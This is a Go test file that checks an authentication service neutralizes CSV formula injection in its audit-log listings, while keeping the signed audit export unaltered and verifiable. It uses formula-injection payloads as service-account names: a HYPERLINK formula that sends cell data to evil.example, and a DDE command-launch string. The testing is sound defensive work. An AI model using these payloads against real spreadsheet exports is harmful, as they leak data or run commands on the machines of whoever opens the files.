package httpapi_test

import (
	"context"
	"encoding/csv"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/signet-auth/signet/internal/audit"
	"github.com/signet-auth/signet/internal/httpapi"
)

func TestNeutralize(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"＝1+1", "'＝1+1"},
		{"alice@example.com", "alice@example.com"},
		{"/auth/users", "/auth/users"},
		{"us-abc", "us-abc"},
		{"", ""},
		{"a=b", "a=b"},
	} {
		if got := httpapi.Neutralize(tc.in)[0]; got != tc.want {
			t.Errorf("Neutralize(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestAuditCSVInjection: service accounts named like formulas make signed
// requests (refused, and recorded all the same); the CSV listing shows
// their names as text, and the export (which keeps them as recorded)
// still verifies.
func TestAuditCSVInjection(t *testing.T) {
	e := newEnv(t, stores(t)["sqlite"](t))
	admin := e.newUser()
	start := e.clock.Now().Add(-time.Second)
	names := []string{`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)"}
	for _, n := range names {
		sa := e.createServiceAccount(admin, n, "")
		body := `{"email":"x@example.com","kind":"CustomerEmployee"}`
		ua := e.mustUserAction(sa.token, sa.signer, "POST", "/auth/users", body)
		if r := e.do("POST", "/auth/users", sa.token, body, "X-DFNS-USERACTION", ua); r.status != 403 {
			t.Fatalf("signed request as %q: %d %s", n, r.status, r.raw)
		}
	}
	end := e.clock.Now().Add(time.Second)
	q := "?startTime=" + url.QueryEscape(start.Format(time.RFC3339Nano)) + "&endTime=" + url.QueryEscape(end.Format(time.RFC3339Nano))
	rows, err := csv.NewReader(strings.NewReader(e.auditCSV(admin.token, q))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, row := range rows[1:] {
		for _, cell := range row {
			if c := strings.TrimLeft(cell, " "); c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("cell %q starts a formula", cell)
			}
		}
		got = append(got, row[3])
	}
	for _, n := range names {
		if !slices.Contains(got, "'"+n) {
			t.Errorf("username %q not listed as text; usernames listed: %q", n, got)
		}
	}
	x, err := e.svc.ExportAudit(context.Background(), admin.orgID)
	if err != nil {
		t.Fatal(err)
	}
	if rep := audit.Verify(x, e.iss.JWKS()); !rep.OK() {
		t.Fatalf("export with formula-like names does not verify: %v", rep.Problems)
	}
	for _, en := range x.Entries {
		if strings.HasPrefix(en.Username, "'") {
			t.Errorf("export altered the recorded username %q", en.Username)
		}
	}
}
